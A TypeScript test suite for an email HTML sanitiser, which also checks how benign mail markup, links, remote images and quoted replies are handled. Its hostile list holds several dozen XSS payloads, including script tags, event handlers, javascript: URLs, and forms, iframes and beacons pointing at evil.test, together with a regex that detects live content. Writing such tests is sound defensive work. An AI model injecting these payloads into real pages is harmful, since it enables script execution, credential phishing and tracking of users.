import { sanitiseHtml } from './sanitise-html.ts';

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="http://evil.test/a 1x">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="http://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="http://evil.test/x.swf"></object>',
  '<embed src="http://evil.test/x.swf">',
  '<form action="http://evil.test"><input name=p><button>Go</button></form>',
  '<base href="http://evil.test/">',
  '<link rel=stylesheet href="http://evil.test/x.css">',
  '<meta http-equiv=refresh content="0;url=http://evil.test">',
  '<style>@import "http://evil.test/x.css"; body{background:url(http://evil.test/p)}</style>',
  '<div style="background:url(http://evil.test/p)">x</div>',
  '<div style="background-image:url(//evil.test/p)">x</div>',
  '<div style="color:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="font-family:\'x\';behavior:url(#x)">x</div>',
  '<body onload=alert(1) background="http://evil.test/p">x</body>',
  '<table background="http://evil.test/p"><tr><td>x</td></tr></table>',
  '<video src="http://evil.test/v" autoplay></video><audio src="http://evil.test/a"></audio>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<p data-remote-src="http://evil.test" data-quoted="javascript:alert(1)">x</p>',
  '<img data-remote-src="javascript:alert(1)" src="cid:a">',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<template><script>alert(1)</script></template>',
  '<a href="http://ok.test" ping="http://evil.test/p" onclick=alert(1)>x</a>',
  '<details ontoggle=alert(1) open>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<img src="http://evil.test/p.gif" lowsrc="http://evil.test/q.gif" dynsrc="x">',
];

/** Anything that runs, or that a browser fetches by itself. */
const LIVE =
  /<(?:script|style|iframe|object|embed|form|input|button|textarea|base|link|meta|svg|math|video|audio|template|marquee)\b|\son\w+\s*=|(?:java|vb)script:|url\(|expression\(|\s(?:src|srcset|background|lowsrc|dynsrc|ping|poster)\s*=\s*"(?!cid:|data:image\/(?:png|jpe?g|gif|webp);)|position:/i;

describe('hostile HTML', () => {
  it.each(hostile)('%s', (html) => {
    const tags = sanitiseHtml(`<p>before</p>${html}<p>after</p>`).html.match(/<[^>]*>/g) ?? [];
    for (const tag of tags) expect(tag).not.toMatch(LIVE);
  });
});

describe('honest HTML', () => {
  it('keeps what it looks like', () => {
    const html =
      '<table width="600" bgcolor="#fff"><tr><td style="padding:8px 4px;color:#333"><h1>Order</h1><b>42</b></td></tr></table>';
    expect(sanitiseHtml(html).html).toBe(html.replace(/"([^"]*)"/g, '"$1"'));
  });

  it('opens links elsewhere, without telling where from', () => {
    expect(sanitiseHtml('<a href="https://shop.test/o?id=1&amp;x=2" target="_top">order</a>').html).toBe(
      '<a href="https://shop.test/o?id=1&amp;x=2" target="_blank" rel="noopener noreferrer nofollow">order</a>',
    );
  });

  it('holds images of other servers back, and says so', () => {
    const safe = sanitiseHtml('<img src="//cdn.test/a b.png" alt="A" width="10"><img src=" https://cdn.test/b.png">');
    expect(safe.hasRemoteImages).toBe(true);
    expect(safe.html).toBe(
      '<img alt="A" width="10" data-remote-src="https://cdn.test/a%20b.png" /><img data-remote-src="https://cdn.test/b.png" />',
    );
  });

  it('keeps images that came with the mail', () => {
    const safe = sanitiseHtml('<img src="cid:logo@x"><img src="data:image/png;base64,iVBORw0KGgo=">');
    expect(safe).toEqual({
      html: '<img src="cid:logo@x" /><img src="data:image/png;base64,iVBORw0KGgo=" />',
      hasRemoteImages: false,
      contentIds: ['logo@x'],
    });
  });

  it('marks quotes, so that they can be folded', () => {
    expect(sanitiseHtml('<div class="gmail_quote">old</div>').html).toBe('<div data-quoted="true">old</div>');
    expect(sanitiseHtml('<blockquote type="cite">old</blockquote>').html).toBe(
      '<blockquote data-quoted="true">old</blockquote>',
    );
    expect(sanitiseHtml('<div id="appendonsend"></div><hr>').html).toBe('<div data-quoted="rest"></div><hr />');
    expect(sanitiseHtml('<div style="border:none;border-top:solid #E1E1E1 1.0pt">From:</div>').html).toContain(
      'data-quoted="rest"',
    );
    expect(sanitiseHtml('<div class="gmail_signature">Asha</div>').html).toBe(
      '<div data-quoted="signature">Asha</div>',
    );
  });
});
